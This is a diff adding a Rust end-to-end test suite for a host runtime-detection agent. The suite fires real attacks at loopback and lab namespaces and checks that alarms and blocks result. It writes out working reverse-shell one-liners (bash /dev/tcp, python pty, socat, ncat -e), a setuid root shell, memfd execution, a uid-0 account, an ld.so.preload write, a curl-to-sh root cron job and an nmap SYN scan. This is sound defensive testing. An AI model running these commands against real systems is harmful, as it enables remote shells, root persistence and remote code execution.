@@ -1,0 +1,320 @@
+//! Runtime detection end to end with real attacks and real tools: reverse shells (bash
+//! `/dev/tcp`, python pty, socat, `ncat -e`), a set-user-ID shell run by an unprivileged user,
+//! memfd execution, a fake miner on a stratum port, `useradd -o -u 0`, a write to
+//! `ld.so.preload`, a root cron line that downloads and runs, an nmap SYN scan from another
+//! network namespace (then blocked), isolate-and-kill with quarantine, refusal and restore; a
+//! normal workload that must raise nothing; the proc-connector tier with BPF forced off; a
+//! storm of 50,000 execs. Every attack targets loopback or the test's own namespaces.
+//!
+//! The sensor sees every process on the host, so these tests run one at a time (`SERIAL`), and
+//! agents of other test files run with the sensor off.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::Path;
+
+use hostward_e2e::lab::*;
+use hostward_e2e::runtime::*;
+use hostward_e2e::*;
+use serde_json::{Value, json};
+
+static SERIAL: tokio::sync::Mutex<()> = tokio::sync::Mutex::const_new(());
+
+fn peer_is(a: &Value, peer: &str) -> bool {
+    a["evidence"]["peer"] == peer
+}
+
+/// An alarm's detail (with its handling history beside it): the alarm.
+async fn detail(api: &Api, a: &Value) -> Result<Value> {
+    let id = a["id"].as_str().unwrap_or("");
+    Ok(api.get(&format!("/api/v1/alarms/{id}")).await?.expect(200)?.json["alarm"].clone())
+}
+
+/// The alarm's own process (first in its chain) and the chain's length.
+fn first_process(a: &Value) -> &Value {
+    &a["evidence"]["processes"][0]
+}
+
+#[tokio::test]
+async fn process_attacks_raise_their_alarms_with_the_process_chain() -> Result<()> {
+    let _serial = SERIAL.lock().await;
+    let env = TestEnv::new("behaviour-attacks");
+    env.run(async {
+        require_tools(&["ncat", "socat", "/usr/bin/python3", "useradd", "userdel", "su", "nft"]).await?;
+        let n = Netns::new().await?;
+        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
+        let api = center.api();
+        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
+        let server = agent.server_id.clone();
+        let dir = env.subdir("attacks");
+
+        // 1. bash /dev/tcp.
+        let _l1 = listener(&env, &dir, "127.0.0.1", 19101, "id", 5)?;
+        tokio::time::sleep(millis(300)).await;
+        let (_a1, t1) = attack(&env, &dir, "bash-tcp", "timeout 8 bash -c 'bash -i >& /dev/tcp/127.0.0.1/19101 0>&1'")?;
+        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "bash /dev/tcp", |a| peer_is(a, "127.0.0.1:19101")).await?;
+        let a = detail(&api, &a).await?;
+        ensure!(detection_secs(&a, t1) <= 5, "detected {} s after the attack: {a}", detection_secs(&a, t1));
+        ensure!(first_process(&a)["cmdline"] == "bash -i", "{a}");
+        let chain = chain_exes(&a);
+        ensure!(chain.len() >= 2 && chain.iter().all(|e| !e.is_empty() || chain.len() > 2), "a chain up the session: {a}");
+        ensure!(a["severity"] == "critical" && a["technique"].as_str().is_some_and(|t| t.starts_with("T1059.004")), "{a}");
+
+        // 2. python pty: the shell's own descriptors are a terminal; its parent holds the socket.
+        let _l2 = listener(&env, &dir, "127.0.0.1", 19102, "id", 5)?;
+        tokio::time::sleep(millis(300)).await;
+        let (_a2, t2) = attack(
+            &env,
+            &dir,
+            "python-pty",
+            "timeout 8 /usr/bin/python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"127.0.0.1\",19102));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/bash\")'",
+        )?;
+        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "python pty", |a| peer_is(a, "127.0.0.1:19102")).await?;
+        ensure!(detection_secs(&a, t2) <= 5, "{a}");
+        let a = detail(&api, &a).await?;
+        let chain = chain_exes(&a);
+        ensure!(chain.first().is_some_and(|e| e.ends_with("bash")) && chain.iter().any(|e| e.contains("python3")), "bash under python: {a}");
+
+        // 3. socat exec: a pty shell whose parent is the relay.
+        let _l3 = listener(&env, &dir, "127.0.0.1", 19103, "id", 5)?;
+        tokio::time::sleep(millis(300)).await;
+        let (_a3, t3) = attack(&env, &dir, "socat", "timeout 8 socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:127.0.0.1:19103")?;
+        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "socat", |a| peer_is(a, "127.0.0.1:19103")).await?;
+        ensure!(detection_secs(&a, t3) <= 5, "{a}");
+
+        // 4. nc -e (nmap's ncat).
+        let _l4 = listener(&env, &dir, "127.0.0.1", 19104, "id", 5)?;
+        tokio::time::sleep(millis(300)).await;
+        let (_a4, t4) = attack(&env, &dir, "ncat-e", "timeout 8 ncat -e /bin/bash 127.0.0.1 19104")?;
+        let a = wait_behaviour_alarm(&api, &server, "reverse_shell", "ncat -e", |a| {
+            a["evidence"]["details"].as_array().is_some_and(|d| d.iter().any(|d| d.as_str().is_some_and(|d| d.contains("ncat"))))
+        })
+        .await?;
+        ensure!(detection_secs(&a, t4) <= 5, "{a}");
+
+        // 5. A set-user-ID copy of bash run by an unprivileged user.
+        let suid_dir = env.subdir("suid");
+        std::fs::set_permissions(&suid_dir, std::fs::Permissions::from_mode(0o755))?;
+        let rootbash = suid_dir.join("rootbash");
+        std::fs::copy("/bin/bash", &rootbash)?;
+        std::fs::set_permissions(&rootbash, std::fs::Permissions::from_mode(0o4755))?;
+        let (_a5, t5) = attack(&env, &dir, "suid", &format!("su nobody -s /bin/sh -c '{} -p -c id'", rootbash.display()))?;
+        let a = wait_behaviour_alarm(&api, &server, "process_privilege_escalation", "rootbash", |a| {
+            a["evidence"]["file"].as_str() == rootbash.to_str()
+        })
+        .await?;
+        ensure!(detection_secs(&a, t5) <= 5, "{a}");
+        ensure!(first_process(&a)["uid"] == 65534 && first_process(&a)["euid"] == 0, "{a}");
+
+        // 6. memfd execution.
+        let memfd = dir.join("memfd.py");
+        std::fs::write(&memfd, "import os\nfd = os.memfd_create('payload', 0)\nos.write(fd, open('/usr/bin/id', 'rb').read())\nos.execv(f'/proc/self/fd/{fd}', ['payload'])\n")?;
+        let (_a6, t6) = attack(&env, &dir, "memfd", &format!("/usr/bin/python3 {}", memfd.display()))?;
+        let a = wait_behaviour_alarm(&api, &server, "fileless_execution", "memfd", |a| a["evidence"]["details"].to_string().contains("memfd:payload")).await?;
+        ensure!(detection_secs(&a, t6) <= 5, "{a}");
+
+        // 7. A fake miner (a renamed ncat) connecting to a stratum port.
+        let miner = dir.join("kworkerds");
+        std::fs::copy("/usr/bin/ncat", &miner)?;
+        let _l7 = listener(&env, &dir, "127.0.0.1", 3334, "", 5)?;
+        tokio::time::sleep(millis(300)).await;
+        let (_a7, t7) = attack(&env, &dir, "miner", &format!("timeout 4 {} 127.0.0.1 3334 </dev/null", miner.display()))?;
+        let a = wait_behaviour_alarm(&api, &server, "crypto_miner", "stratum", |a| peer_is(a, "127.0.0.1:3334")).await?;
+        ensure!(detection_secs(&a, t7) <= 5, "{a}");
+        ensure!(chain_exes(&a).first().map(String::as_str) == miner.to_str(), "{a}");
+
+        // 8. useradd -o -u 0: the command, and the account it leaves.
+        let name = format!("hw0{:05}", rand::random::<u32>() % 100_000);
+        let t8 = unix_now();
+        let out = run_cmd(Path::new("useradd"), &["-o", "-u", "0", "-M", "-s", "/usr/sbin/nologin", &name].map(String::from), None).await?;
+        ensure!(out.success(), "useradd: {out}");
+        let cmd = wait_behaviour_alarm(&api, &server, "high_risk_command", "useradd -o -u 0", |a| a["evidence"]["rule"] == "add_uid0_account").await;
+        let acct = wait_behaviour_alarm(&api, &server, "invalid_account", "the uid-0 account", |a| a["evidence"]["details"].to_string().contains(&format!("{name} has uid 0"))).await;
+        let userdel = ["-f".to_string(), name.clone()];
+        run_cmd(Path::new("userdel"), &userdel, None).await?.ok()?;
+        let (cmd, acct) = (cmd?, acct?);
+        ensure!(detection_secs(&cmd, t8) <= 5 && detection_secs(&acct, t8) <= 5, "{cmd} {acct}");
+        let acct = detail(&api, &acct).await?;
+        ensure!(chain_exes(&acct).first().is_some_and(|e| e.ends_with("useradd")), "the writer: {acct}");
+
+        // 9. A write to /etc/ld.so.preload (empty, so nothing is preloaded; removed at once).
+        let preload = Path::new("/etc/ld.so.preload");
+        let before = std::fs::read(preload).ok();
+        let t9 = unix_now();
+        let out = run_cmd(Path::new("sh"), &["-c".into(), ": >> /etc/ld.so.preload".into()], None).await?;
+        match &before {
+            Some(b) => std::fs::write(preload, b)?,
+            None => std::fs::remove_file(preload)?,
+        }
+        ensure!(out.success(), "{out}");
+        let a = wait_behaviour_alarm(&api, &server, "persistence_preload", "ld.so.preload", |a| a["evidence"]["file"] == "/etc/ld.so.preload").await?;
+        ensure!(detection_secs(&a, t9) <= 5, "{a}");
+        ensure!(a["severity"] == "critical", "{a}");
+        let a = detail(&api, &a).await?;
+        ensure!(chain_exes(&a).first().is_some_and(|e| e.ends_with("sh") || e.ends_with("dash")), "the writer is the shell: {a}");
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_root_cron_line_that_downloads_and_runs_is_caught_twice() -> Result<()> {
+    let _serial = SERIAL.lock().await;
+    let env = TestEnv::new("behaviour-cron");
+    env.run(async {
+        require_tools(&["/usr/sbin/cron", "curl", "/usr/bin/python3", "nft"]).await?;
+        let n = Netns::new().await?;
+        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
+        let api = center.api();
+        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
+        let server = agent.server_id.clone();
+        let dir = env.subdir("cron");
+        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
+        let marker = dir.join("ran");
+        std::fs::write(dir.join("x.sh"), format!("touch {}\n", marker.display()))?;
+        let port = free_port();
+        let mut web = command("/usr/bin/python3");
+        web.args(["-m", "http.server", &port.to_string(), "--bind", "127.0.0.1", "--directory"]).arg(&dir);
+        let _web = Proc::spawn(&env, "http", web, &dir, "http")?;
+        // The host's cron if it runs, else our own (no systemd in some CI containers).
+        let _cron = if run_cmd(Path::new("pgrep"), &["-x".into(), "cron".into()], None).await?.success() {
+            None
+        } else {
+            let mut c = command("/usr/sbin/cron");
+            c.arg("-f");
+            Some(Proc::spawn(&env, "cron", c, &dir, "cron")?)
+        };
+        let file = format!("/etc/cron.d/hostward-e2e-{}", std::process::id());
+        let t0 = unix_now();
+        std::fs::write(&file, format!("* * * * * root curl -s http://127.0.0.1:{port}/x.sh | sh\n"))?;
+        std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644))?;
+        let written = wait_behaviour_alarm(&api, &server, "persistence_cron", "the cron file", |a| a["evidence"]["file"] == file).await;
+        // Cron runs it at the next minute.
+        let ran = wait_behaviour_alarm(&api, &server, "high_risk_command", "cron's run", |a| {
+            a["evidence"]["rule"] == "download_to_shell" && chain_exes(a).iter().any(|e| e.ends_with("/cron"))
+        })
+        .await;
+        let _ = std::fs::remove_file(&file);
+        let (written, ran) = (written?, ran?);
+        ensure!(detection_secs(&written, t0) <= 5, "{written}");
+        let ran = detail(&api, &ran).await?;
+        ensure!(chain_exes(&ran).iter().any(|e| e.ends_with("/cron")), "cron in the chain: {ran}");
+        ensure!(marker.exists(), "the job really ran");
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn an_nmap_syn_scan_from_another_namespace_is_alarmed_and_blocked() -> Result<()> {
+    let _serial = SERIAL.lock().await;
+    let env = TestEnv::new("behaviour-scan");
+    env.run(async {
+        require_tools(&["nmap", "nft"]).await?;
+        let n = Netns::new().await?;
+        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
+        let api = center.api();
+        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
+        let server = agent.server_id.clone();
+        let t0 = unix_now();
+        let out = n
+            .in_attacker(&["nmap", "-sS", "-Pn", "-n", "--max-retries", "0", "-p", "1-200", VICTIM_IP], secs(60))
+            .await?;
+        ensure!(out.success(), "nmap: {out}");
+        let a = wait_behaviour_alarm(&api, &server, "port_scan", "the nmap scan", |a| a["source_ip"] == ATTACKER_IP).await?;
+        ensure!(detection_secs(&a, t0) <= 5, "{a}");
+        ensure!(a["evidence"]["blocked_until"].as_i64().is_some(), "blocked per policy: {a}");
+        n.wait_blocked(ATTACKER_IP).await?;
+        ensure!(!n.can_connect(None, VICTIM_IP, 22).await?, "the scanner's new connections are dropped");
+        let blocked = api.get(&format!("/api/v1/servers/{server}/blocked-ips")).await?.expect(200)?;
+        ensure!(blocked.text.contains("port_scan"), "the block's reason: {}", blocked.text);
+        Ok(())
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_normal_workload_raises_no_alarm() -> Result<()> {
+    let _serial = SERIAL.lock().await;
+    let env = TestEnv::new("behaviour-workload");
+    env.run(async {
+        require_tools(&["apt-get", "cc", "ssh", "ssh-keygen", "/usr/sbin/sshd", "/usr/sbin/cron", "nft"]).await?;
+        let n = Netns::new().await?;
+        let dir = env.subdir("workload");
+        std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755))?;
+        // A cron job that exists before the agent starts (a host's usual jobs), and sshd with a
+        // key login for a fresh account.
+        let marker = dir.join("cron-ran");
+        let job = format!("/etc/cron.d/hostward-e2e-wl-{}", std::process::id());
+        std::fs::write(&job, format!("* * * * * root date > {}\n", marker.display()))?;
+        std::fs::set_permissions(&job, std::fs::Permissions::from_mode(0o644))?;
+        let keys = env.subdir("keys");
+        let key = keys.join("client_key");
+        run_cmd(Path::new("ssh-keygen"), &["-q", "-t", "ed25519", "-N", "", "-f", &key.display().to_string()].map(String::from), None).await?.ok()?;
+        let (account, _) = User::random("wl").await?;
+        let user = account.0.clone();
+        std::fs::copy(keys.join("client_key.pub"), keys.join(format!("{user}.keys")))?;
+        let authorized = format!("AuthorizedKeysFile={}/%u.keys", keys.display());
+        let sshd = Sshd::start(&env, &n, &[&authorized, "StrictModes=no"]).await?;
+
+        let center = Center::start(&env, Backend::Sqlite, CenterOpts::default()).await?;
+        let api = center.api();
+        let agent = behaviour_agent(&env, &center, &n, "victim", "auto").await?;
+        let server = agent.server_id.clone();
+        let _cron = if run_cmd(Path::new("pgrep"), &["-x".into(), "cron".into()], None).await?.success() {
+            None
+        } else {
+            let mut c = command("/usr/sbin/cron");
+            c.arg("-f");
+            Some(Proc::spawn(&env, "cron", c, &dir, "cron")?)
+        };
+        let result = async {
+            // An install, from the real package archive.
+            let out = run_cmd_timeout(Path::new("apt-get"), &["install", "-y", "-q", "--reinstall", "hello"].map(String::from), None, secs(300)).await?;
+            ensure!(out.success(), "apt-get install hello: {out}");
+            // A compile.
+            std::fs::write(dir.join("a.c"), "#include <stdio.h>\nint main(void){puts(\"hi\");return 0;}\n")?;
+            let out = run_cmd(Path::new("cc"), &["-O2", "-o", &dir.join("a").display().to_string(), &dir.join("a.c").display().to_string()].map(String::from), None).await?;
+            ensure!(out.success(), "cc: {out}");
+            run_cmd(&dir.join("a"), &[], None).await?.ok()?;
+            // sshd logins.
+            for _ in 0..3 {
+                let out = n
+                    .in_attacker(
+                        &["ssh", "-i", &key.display().to_string(), "-o", "StrictHostKeyChecking=no", "-o", "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes", &format!("{user}@{VICTIM_IP}"), "id; ls /tmp >/dev/null"],
+                        secs(20),
+                    )
+                    .await?;
+                ensure!(out.success(), "ssh: {out}");
+            }
+            // The daily risk scan, run now.
+            let task = api.post("/api/v1/tasks", json!({"server_ids": [server], "kind": "risk_scan", "params": {}})).await?.expect(201)?;
+            let id = task.json["items"][0]["id"].as_str().unwrap_or("").to_string();
+            wait_until("the risk scan", secs(300), millis(500), || async {
+                let t = api.get(&format!("/api/v1/tasks/{id}")).await?.expect(200)?;
+                ensure!(t.json["state"] == "done", "{}", t.json["state"]);
+                Ok(())
+            })
+            .await?;
+            // A service restart: the lab's sshd, stopped and started again.
+            drop(sshd);
+            let _sshd = Sshd::start(&env, &n, &[&authorized, "StrictModes=no"]).await?;
+            // A cron job run.
+            host_until("the cron job to run", || marker.exists()).await.or_else(|_| {
+                std::thread::sleep(secs(35));
+                if marker.exists() { Ok(()) } else { Err(anyhow!("the cron job never ran")) }
+            })?;
+            // Give the last events time to arrive: records flow in order, so a heartbeat after
+            // this point means everything before it was judged.
+            tokio::time::sleep(secs(3)).await;
+            Ok::<_, anyhow::Error>(())
+        }
+        .await;
+        let _ = std::fs::remove_file(&job);
+        let _ = run_cmd(Path::new("apt-get"), &["remove", "-y", "-q", "hello"].map(String::from), None).await;
+        result?;
+        let alarms = alarms_of(&api, &server).await?;
+        ensure!(alarms.is_empty(), "a normal workload raised alarms: {}", serde_json::to_string_pretty(&alarms)?);
+        Ok(())
+    })
+    .await
+}
